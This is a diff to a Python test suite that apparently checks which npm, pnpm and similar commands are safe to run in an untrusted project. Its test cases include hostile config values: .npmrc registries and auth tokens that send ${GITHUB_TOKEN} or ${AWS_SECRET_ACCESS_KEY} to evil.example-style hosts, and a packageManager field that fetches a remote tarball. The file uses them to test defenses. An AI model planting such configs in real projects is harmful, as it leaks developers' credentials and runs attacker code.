@@ -42,10 +42,7 @@ default = []
 """
 ORDINARY = {
     "package.json": '{"name": "x", "packageManager": "pnpm@9.1.0", "dependencies": {"react": "^18.2.0"}}',
-    ".npmrc": (
-        "save-exact=true\nregistry=https://registry.npmjs.org/\n@acme:registry=https://npm.pkg.github.com\n"
-        "//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}\n"
-    ),
+    ".npmrc": ("save-exact=true\nfund=false\n"),
     "pnpm-workspace.yaml": "packages:\n  - 'packages/*'\nonlyBuiltDependencies:\n- esbuild\n",
     ".yarnrc.yml": "nodeLinker: node-modules\nenableTelemetry: false\n",
     "bunfig.toml": "[install]\nexact = true\n\n[test]\npreload = ['./setup.ts']\n",
@@ -125,9 +122,9 @@ def test_an_ordinary_project_asks_nothing(project: Path, command: str) -> None:
     [
         ("npm view react", {".npmrc": "registry=http://evil.example:8000/${GITHUB_TOKEN}/\n"}),
         ("npm ls", {".npmrc": "logs-dir=/home/dev/elsewhere\n"}),
-        ("npm config list", {".npmrc": "registry=https://registry.npmjs.org/${AWS_SECRET_ACCESS_KEY}/\n"}),
+        ("npm config list", {".npmrc": "registry=https://npm.example/${AWS_SECRET_ACCESS_KEY}/\n"}),
         ("npm help install", {".npmrc": "viewer=./evil\n"}),
-        ("npm ping", {".npmrc": "//registry.npmjs.org/:_authToken=${AWS_SECRET_ACCESS_KEY}\n"}),
+        ("npm ping", {".npmrc": "//npm.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n"}),
         ("pnpm --version", {".pnpmfile.cjs": ""}),
         ("pnpm list", {"pnpm-workspace.yaml": "packages:\n  - a\nconfigDependencies:\n  x: 1.0.0\n"}),
         ("pnpm why x", {"package.json": '{"packageManager": "pnpm@https://evil.example/x.tgz"}'}),
